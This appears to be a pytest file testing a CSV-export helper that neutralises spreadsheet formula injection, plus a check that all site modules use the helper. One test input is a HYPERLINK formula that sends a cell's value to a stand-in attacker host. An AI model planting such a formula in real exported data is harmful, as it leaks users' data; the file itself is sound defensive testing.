"""``accounts.csv_safe``: text a spreadsheet would run as a formula is written as text."""

import csv
import io
import re
from pathlib import Path

import pytest

from accounts import csv_safe

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"],
)
def test_a_formula_is_written_as_text(cell):
    out = io.StringIO()
    csv_safe.writer(out).writerow([cell])
    [[read]] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read == "'" + cell


@pytest.mark.parametrize("cell", ["Kirk", "Fleet = strong", "a-b", "", 'Say "hi"', -5, 0, 12, None])
def test_other_cells_are_written_as_they_are(cell):
    out = io.StringIO()
    csv_safe.writer(out).writerows([[cell, "x"]])
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["" if cell is None else str(cell), "x"]


def test_every_csv_the_site_writes_goes_through_the_helper():
    """No module but the helper makes a csv writer of its own."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("accounts", "fleets", "tournaments", "games", "config", "rules")
        for path in (ROOT / folder).rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8")) and path != ROOT / "accounts" / "csv_safe.py"
    ]
    assert offenders == []
